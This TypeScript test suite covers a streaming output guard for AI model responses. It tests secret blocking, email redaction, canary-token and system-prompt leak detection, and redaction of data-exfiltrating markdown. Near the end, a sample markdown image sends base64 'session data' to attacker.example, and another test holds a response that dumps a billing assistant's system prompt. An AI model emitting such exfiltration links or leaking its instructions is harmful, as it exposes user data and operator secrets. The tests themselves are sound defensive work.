import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BulwarkError, isBulwarkError } from '../../core/index.js';
import { createCanary } from '../../detect/injection/index.js';
import { evaluate } from '../../policy/index.js';
import { createTestScanner, makeTestSecret } from '../../testing/test-recognizers.js';
import { createStreamWindow, guardText, type OutputGuardOptions } from './output-guard.js';

const scanner = createTestScanner();
const rules = {
  types: {},
  categories: { secret: 'block' as const, contact: 'redact' as const },
  levels: {},
  default: 'allow' as const,
  minScore: 0.5,
};
const options = (holdbackChars = 24, canary?: string): OutputGuardOptions => ({
  scan: async (text) => scanner.scan(text),
  decide: (findings) => evaluate({ findings, rules, entities: scanner.entities }),
  canary,
  holdbackChars,
});

/** Feeds text in the given pieces; returns what was emitted and the error, if any. */
async function run(pieces: string[], opts = options()): Promise<{ emitted: string; error?: unknown }> {
  const window = createStreamWindow(opts);
  let emitted = '';
  try {
    for (const piece of pieces) emitted += await window.push(piece);
    emitted += await window.flush();
    return { emitted };
  } catch (error) {
    return { emitted, error };
  }
}

function split(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let at = 0;
  for (const p of points) {
    out.push(text.slice(at, p));
    at = p;
  }
  out.push(text.slice(at));
  return out.filter((p) => p !== '');
}

const words = fc.array(fc.constantFrom('alpha', 'beta', 'the', 'model', 'says', 'ok.', '\n', 'x-y'), {
  maxLength: 30,
});

describe('stream window', () => {
  it('emits clean text unchanged however it is chunked', async () => {
    await fc.assert(
      fc.asyncProperty(words, fc.array(fc.nat(400), { maxLength: 40 }), async (ws, cuts) => {
        const text = ws.join(' ');
        const { emitted, error } = await run(split(text, cuts));
        expect(error).toBeUndefined();
        expect(emitted).toBe(text);
      }),
      { numRuns: 150 },
    );
  });

  it('never emits any 4+ character piece of a secret, for any chunking and surrounding text', async () => {
    await fc.assert(
      fc.asyncProperty(
        words,
        words,
        fc.array(fc.nat(400), { maxLength: 60 }),
        async (before, after, cuts) => {
          const secret = makeTestSecret();
          const text = `${before.join(' ')} ${secret} ${after.join(' ')}`;
          const { emitted, error } = await run(split(text, cuts));
          expect(error).toBeInstanceOf(BulwarkError);
          expect((error as BulwarkError).code).toBe('SENSITIVE_OUTPUT_BLOCKED');
          for (let i = 0; i + 4 <= secret.length; i++) expect(emitted).not.toContain(secret.slice(i, i + 4));
        },
      ),
      { numRuns: 150 },
    );
  });

  it('blocks a secret fed one character at a time and emits nothing of it', async () => {
    const secret = makeTestSecret();
    const { emitted, error } = await run([...`prefix text then ${secret}`]);
    expect(isBulwarkError(error)).toBe(true);
    expect(emitted).not.toContain('tsk_');
  });

  it('redacts an allowed-but-redacted type in place across chunks', async () => {
    const { emitted, error } = await run([...'write to gil@example.com today please']);
    expect(error).toBeUndefined();
    expect(emitted).toBe('write to [EMAIL] today please');
  });

  it('blocks a response that repeats the canary', async () => {
    const canary = createCanary().token;
    const { emitted, error } = await run([...`my prompt has ${canary} inside`], options(48, canary));
    expect((error as BulwarkError).code).toBe('CANARY_LEAKED');
    expect(emitted).not.toContain(canary.slice(0, 8));
    const spaced = await guardText(options(48, canary), `it is ${[...canary].join(' ')}`).catch(
      (e: unknown) => e,
    );
    expect((spaced as BulwarkError).code).toBe('CANARY_LEAKED');
  });

  it('blocks a stream that reproduces most of the system prompt', async () => {
    const systemPrompt =
      'You are the billing assistant for Northwind. Only answer questions about invoices, refunds and payment dates. Never discuss internal pricing tiers or the discount matrix.';
    const opts = { ...options(), systemPrompt, leakThreshold: 0.7 };
    const { error } = await run(`Sure! My instructions say: ${systemPrompt}`.match(/.{1,7}/gs) ?? [], opts);
    expect((error as BulwarkError).code).toBe('CANARY_LEAKED');
    const unrelated = await run(['Your refund was sent on May 3rd. ', 'Anything else about invoices?'], opts);
    expect(unrelated.error).toBeUndefined();
  });

  it('redacts a markdown image that smuggles data to a foreign host, even when streamed', async () => {
    const opts = {
      ...options(),
      decide: (findings: Parameters<OutputGuardOptions['decide']>[0]) =>
        evaluate({
          findings,
          rules: { ...rules, types: { MARKDOWN_EXFILTRATION: 'redact' as const } },
          entities: scanner.entities,
        }),
    };
    const text = 'Done. ![logo](https://attacker.example/p.png?d=c2VjcmV0LXNlc3Npb24tZGF0YQ) Bye.';
    const { emitted, error } = await run([...text], opts);
    expect(error).toBeUndefined();
    expect(emitted).not.toContain('attacker.example');
    expect(emitted).toContain('[MARKDOWN_EXFILTRATION]');
  });

  it('holds back at most the hold-back plus one word', async () => {
    const window = createStreamWindow(options(24));
    const text = 'one two three four five six seven eight nine ten eleven twelve';
    const emitted = await window.push(text);
    expect(emitted.length).toBeGreaterThanOrEqual(text.length - 24 - 'twelve'.length - 1);
    expect(text.startsWith(emitted)).toBe(true);
  });
});

describe('guardText', () => {
  it('redacts and blocks whole texts', async () => {
    expect(await guardText(options(), 'mail hal@example.com')).toBe('mail [EMAIL]');
    await expect(guardText(options(), `k ${makeTestSecret()}`)).rejects.toMatchObject({
      code: 'SENSITIVE_OUTPUT_BLOCKED',
    });
  });
});
